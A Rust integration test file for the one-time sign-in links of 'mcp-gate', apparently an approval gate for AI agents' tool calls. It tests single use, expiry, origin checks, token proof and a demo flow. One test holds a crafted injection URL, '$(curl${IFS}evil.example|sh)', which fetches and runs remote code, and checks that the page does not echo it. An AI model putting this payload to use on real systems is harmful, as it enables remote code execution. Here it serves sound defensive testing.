//! One-time sign-in links: `mcp-gate approvals open` and `/login/link/...`.

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use mcp_gate::approval::{ApprovalSettings, Approvals};
use mcp_gate::config::Config;
use mcp_gate::server::web::WebState;
use mcp_gate::server::web::signin::{API_PATH, LINK_TTL};
use mcp_gate::store::{Location, Store};
use reqwest::redirect::Policy;
use serde_json::{Value, json};
use tower::ServiceExt;

use super::binary::{data_dir, gate_in, start_gated_with};
use super::common::within;

const TOKEN: &str = "sign-in-test-approver-token-0123456789";

async fn state(public_url: &str) -> (Arc<WebState>, Arc<Approvals>) {
    let config = Config::from_toml("", "empty.toml").unwrap();
    let store = Store::open(Location::Memory).await.unwrap();
    let settings = ApprovalSettings {
        wait: Duration::ZERO,
        public_url: public_url.to_owned(),
        expiry_by_risk: config.approvals.expiry_by_risk,
        workflows: config.approvals.workflows.clone(),
        ..ApprovalSettings::default()
    };
    let approvals = Approvals::new(store, config.policy.clone(), settings);
    (WebState::new(approvals.clone(), TOKEN.into(), Default::default(), Vec::new()), approvals)
}

struct Server {
    base: String,
    approvals: Arc<Approvals>,
    http: reqwest::Client,
}

async fn server() -> Server {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let (state, approvals) = state(&base).await;
    tokio::spawn(mcp_gate::server::web::serve(listener, state, std::future::pending()));
    Server { base, approvals, http: reqwest::Client::builder().redirect(Policy::none()).build().unwrap() }
}

impl Server {
    async fn link(&self, body: Value) -> reqwest::Response {
        self.http.post(format!("{}{API_PATH}", self.base)).bearer_auth(TOKEN).json(&body).send().await.unwrap()
    }

    async fn redeem(&self, url: &str, origin: Option<&str>) -> reqwest::Response {
        let mut request = self.http.post(url);
        if let Some(origin) = origin {
            request = request.header("origin", origin);
        }
        request.send().await.unwrap()
    }
}

fn session_cookie(resp: &reqwest::Response) -> Option<String> {
    let cookie = resp.headers().get("set-cookie")?.to_str().unwrap();
    let pair = cookie.split(';').next().unwrap().to_owned();
    pair.starts_with("mcp_gate_session=").then_some(pair)
}

#[tokio::test]
async fn a_link_signs_in_once_and_never_again() {
    let s = server().await;
    let id = super::common::hold_call(&s.approvals, "delete_file", "agent-x", json!({"path": "/etc/hosts"})).await;

    // Only an approver gets a link.
    let resp = s.http.post(format!("{}{API_PATH}", s.base)).bearer_auth("wrong").send().await.unwrap();
    assert_eq!(resp.status(), 401);
    let resp = s.link(json!({"approval_id": "apr_nosuchrequest0000"})).await;
    assert_eq!(resp.status(), 404);

    let resp = s.link(json!({"approval_id": id})).await;
    assert_eq!(resp.status(), 201);
    let link: Value = resp.json().await.unwrap();
    let url = link["url"].as_str().unwrap().to_owned();
    assert!(url.starts_with(&format!("{}/login/link/", s.base)), "{url}");
    assert_eq!(link["next"], format!("/approvals/{id}"));
    assert_eq!(link["expires_in_secs"], 60);

    // GET shows a button and changes nothing: no session, the link still works.
    for _ in 0..2 {
        let resp = s.http.get(&url).send().await.unwrap();
        assert_eq!(resp.status(), 200);
        assert!(session_cookie(&resp).is_none());
        let page = resp.text().await.unwrap();
        assert!(page.contains("Sign in as operator"), "{page}");
        assert!(page.contains("method=\"post\""), "{page}");
    }
    let pending = s.approvals.store.get_approval(&id).await.unwrap().unwrap();
    assert_eq!(pending.status.as_str(), "pending", "opening a link decides nothing");

    let resp = s.redeem(&url, Some(&s.base)).await;
    assert_eq!(resp.status(), 303);
    assert_eq!(resp.headers()["location"], format!("/approvals/{id}"));
    let cookie = session_cookie(&resp).expect("a session cookie");
    let page = s.http.get(format!("{}/approvals/{id}", s.base)).header("cookie", &cookie).send().await.unwrap();
    assert_eq!(page.status(), 200, "signed in");
    assert!(page.text().await.unwrap().contains(&id));

    // Never again, by POST or GET.
    let resp = s.redeem(&url, Some(&s.base)).await;
    assert_eq!(resp.status(), 410);
    assert!(session_cookie(&resp).is_none());
    let page = resp.text().await.unwrap();
    assert!(page.contains("expired or was already used") && page.contains("mcp-gate approvals open"), "{page}");
    assert_eq!(s.http.get(&url).send().await.unwrap().status(), 410);

    // Without an id the link leads to the queue.
    let link: Value = s.link(json!({})).await.json().await.unwrap();
    let resp = s.redeem(link["url"].as_str().unwrap(), Some(&s.base)).await;
    assert_eq!(resp.headers()["location"], "/");
}

#[tokio::test]
async fn a_link_is_refused_from_another_origin() {
    let s = server().await;
    let link: Value = s.link(json!({})).await.json().await.unwrap();
    let url = link["url"].as_str().unwrap();
    let port = s.base.rsplit(':').next().unwrap();
    for origin in [
        None,
        Some("null".to_owned()),
        Some("http://evil.example".to_owned()),
        // Loopback, so the server's DNS-rebinding check lets it through, but another site.
        Some("http://localhost:3000".to_owned()),
        Some(format!("http://localhost:{port}")),
    ] {
        let resp = s.redeem(url, origin.as_deref()).await;
        assert_eq!(resp.status(), 403, "origin {origin:?}");
        assert!(session_cookie(&resp).is_none(), "origin {origin:?}");
    }
    // A refused attempt did not spend it for its owner.
    let resp = s.redeem(url, Some(&s.base)).await;
    assert_eq!(resp.status(), 303);
    assert!(session_cookie(&resp).is_some());
}

#[tokio::test(start_paused = true)]
async fn a_link_expires() {
    let (state, _) = state("http://127.0.0.1:8377").await;
    let app = mcp_gate::server::web::router(state);
    let call = |method: &str, uri: &str, body: &str, bearer: bool| {
        let mut r = Request::builder()
            .method(method)
            .uri(uri)
            .header(header::HOST, "127.0.0.1:8377")
            .header(header::ORIGIN, "http://127.0.0.1:8377")
            .header(header::CONTENT_TYPE, "application/json");
        if bearer {
            r = r.header(header::AUTHORIZATION, format!("Bearer {TOKEN}"));
        }
        r.body(Body::from(body.to_owned())).unwrap()
    };
    let mut paths = Vec::new();
    for _ in 0..2 {
        let resp = app.clone().oneshot(call("POST", API_PATH, "{}", true)).await.unwrap();
        assert_eq!(resp.status(), StatusCode::CREATED);
        let body = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
        let link: Value = serde_json::from_slice(&body).unwrap();
        let url = link["url"].as_str().unwrap();
        paths.push(url.strip_prefix("http://127.0.0.1:8377").unwrap().to_owned());
    }
    tokio::time::advance(LINK_TTL - Duration::from_secs(1)).await;
    let resp = app.clone().oneshot(call("POST", &paths[0], "", false)).await.unwrap();
    assert_eq!(resp.status(), StatusCode::SEE_OTHER, "still valid a second before its time");
    tokio::time::advance(Duration::from_secs(1)).await;
    let resp = app.clone().oneshot(call("GET", &paths[1], "", false)).await.unwrap();
    assert_eq!(resp.status(), StatusCode::GONE);
    let resp = app.clone().oneshot(call("POST", &paths[1], "", false)).await.unwrap();
    assert_eq!(resp.status(), StatusCode::GONE, "expired");
    assert!(resp.headers().get(header::SET_COOKIE).is_none());
}

#[tokio::test]
async fn approvals_open_prints_a_link_that_signs_in_at_the_request() {
    let dir = data_dir("open");
    // No MCP_GATE_TOKEN: the token file in the data directory, as a first run creates it.
    let mut gate = start_gated_with(gate_in(&dir)).await;
    let held = gate.call_with(2, "sign in").await;
    let id = held["_meta"]["mcp-gate/approval"]["id"].as_str().unwrap().to_owned();
    let out = within(
        "approvals open",
        gate_in(&dir)
            .env("MCP_GATE_URL", &gate.approvals)
            .env("DISPLAY", ":99")
            .env("MCP_GATE_NO_BROWSER", "1")
            .args(["approvals", "open", &id])
            .output(),
    )
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let url = stdout.split_whitespace().find(|w| w.contains("/login/link/")).expect("the link is printed");
    assert!(url.starts_with(&gate.approvals), "{stdout}");
    assert!(!held.to_string().contains("/login/link/"), "the model sees no sign-in link: {held}");

    let http = reqwest::Client::builder().redirect(Policy::none()).build().unwrap();
    let resp = http.post(url).header("origin", &gate.approvals).send().await.unwrap();
    assert_eq!(resp.status(), 303);
    assert_eq!(resp.headers()["location"], format!("/approvals/{id}"));
    let cookie = session_cookie(&resp).unwrap();
    let page = http.get(format!("{}/approvals/{id}", gate.approvals)).header("cookie", cookie).send().await.unwrap();
    assert_eq!(page.status(), 200);

    // The sign-in page names the command and the token file of this run.
    let login = http.get(format!("{}/login?next=/approvals/{id}", gate.approvals)).send().await.unwrap();
    let login = login.text().await.unwrap();
    assert!(login.contains(&format!("mcp-gate approvals open --url {} {id}", gate.approvals)), "{login}");
    assert!(login.contains(&dir.join("approver-token").display().to_string()), "{login}");
    // A link cannot put its own text into the command the page tells the person to run.
    let crafted = "/login?next=/approvals/x%24(curl%24%7BIFS%7Devil.example%7Csh)";
    let login = http.get(format!("{}{crafted}", gate.approvals)).send().await.unwrap().text().await.unwrap();
    let command = login.split("<pre class=\"command\"><code>").nth(1).unwrap().split("</code>").next().unwrap();
    assert_eq!(command, format!("mcp-gate approvals open --url {}", gate.approvals));
}

/// `approvals open` has the listener prove it knows the token first: a program squatting the
/// address gets neither the token nor a request for a link.
#[tokio::test]
async fn approvals_open_sends_nothing_to_an_unproven_listener() {
    let (addr, received) = super::hub::squatter().await;
    let out = within(
        "approvals open",
        gate_in(&data_dir("open-squat"))
            .args(["approvals", "open", "--print"])
            .env("MCP_GATE_URL", format!("http://{addr}"))
            .env("MCP_GATE_TOKEN", TOKEN)
            .output(),
    )
    .await
    .unwrap();
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("did not prove that it knows the token"), "{stderr}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("/login/link/"));
    let seen = String::from_utf8_lossy(&received.lock().unwrap()).into_owned();
    assert!(seen.contains("POST /api/v1/handshake"), "{seen}");
    assert!(!seen.contains(TOKEN) && !seen.contains(API_PATH), "{seen}");
}

/// `mcp-gate demo` shows only its walkthrough, and its sign-in link leads a browser to the held
/// call, signed in, to approve it there.
#[tokio::test]
async fn the_demo_walks_through_a_first_approval_without_log_lines() {
    use tokio::io::AsyncBufReadExt;

    let mut child = gate_in(&data_dir("demo"))
        .arg("demo")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = tokio::io::BufReader::new(child.stderr.take().unwrap()).lines();
    let mut shown = Vec::new();
    let link = within("the demo's sign-in link", async {
        loop {
            let line = stderr.next_line().await.unwrap().expect("the demo's walkthrough");
            shown.push(line.clone());
            if let Some(link) = line.split_whitespace().find(|w| w.contains("/login/link/")) {
                return link.to_owned();
            }
        }
    })
    .await;
    let base = link.split("/login/").next().unwrap().to_owned();
    let http = reqwest::Client::builder().redirect(Policy::none()).build().unwrap();
    let resp = http.post(&link).header("origin", &base).send().await.unwrap();
    assert_eq!(resp.status(), 303);
    let page = resp.headers()["location"].to_str().unwrap().to_owned();
    assert!(page.starts_with("/approvals/apr_"), "{page}");
    let cookie = session_cookie(&resp).unwrap();
    let html = http.get(format!("{base}{page}")).header("cookie", &cookie).send().await.unwrap().text().await.unwrap();
    let csrf = html.split("name=\"csrf\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let resp = http
        .post(format!("{base}{page}/approve"))
        .header("cookie", &cookie)
        .header("origin", &base)
        .form(&[("csrf", csrf.as_str()), ("notes", "from the demo test")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["location"].to_str().unwrap(), format!("{page}?done=approved"));

    let rest = within("the end of the demo", async {
        let mut rest = Vec::new();
        while let Some(line) = stderr.next_line().await.unwrap() {
            rest.push(line);
        }
        rest
    })
    .await;
    shown.extend(rest);
    let text = shown.join("\n");
    assert!(text.contains("-> deleted notes/todo.txt") && text.contains("Done."), "{text}");
    for level in [" INFO ", " WARN ", " DEBUG "] {
        assert!(!text.contains(level), "only the walkthrough: {text}");
    }
    assert!(!text.contains("mcp-gate: approvals at"), "{text}");
    assert!(within("the demo's exit", child.wait()).await.unwrap().success());
}

/// With a desktop session, `approvals open` starts the platform's opener on the link and does not
/// wait for it (this one never exits), and still prints the link.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn approvals_open_starts_the_opener_without_waiting_for_it() {
    use std::os::unix::fs::PermissionsExt;

    let dir = data_dir("opener");
    let mut gate = start_gated_with(gate_in(&dir)).await;
    let held = gate.call_with(2, "opener").await;
    let id = held["_meta"]["mcp-gate/approval"]["id"].as_str().unwrap().to_owned();
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let opened = dir.join("opened.txt");
    let script = format!("#!/bin/sh\necho $$ > {0}.pid\necho \"$1\" > {0}\nexec sleep 1000\n", opened.display());
    std::fs::write(bin.join("xdg-open"), script).unwrap();
    std::fs::set_permissions(bin.join("xdg-open"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
    let out = within(
        "approvals open",
        gate_in(&dir)
            .env("MCP_GATE_URL", &gate.approvals)
            .env("PATH", path)
            .env("DISPLAY", ":99")
            .env_remove("MCP_GATE_NO_BROWSER")
            .args(["approvals", "open", &id])
            .output(),
    )
    .await
    .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.starts_with("Opening your browser"), "{stdout}");
    let printed = stdout.split_whitespace().find(|w| w.contains("/login/link/")).expect("the link is printed too");
    let given = within("the opener's argument", async {
        loop {
            if let Ok(text) = std::fs::read_to_string(&opened)
                && text.ends_with('\n')
            {
                return text.trim().to_owned();
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
    assert_eq!(given, printed);
    if let Ok(pid) = std::fs::read_to_string(format!("{}.pid", opened.display())) {
        let _ = std::process::Command::new("kill").arg(pid.trim()).status();
    }
}
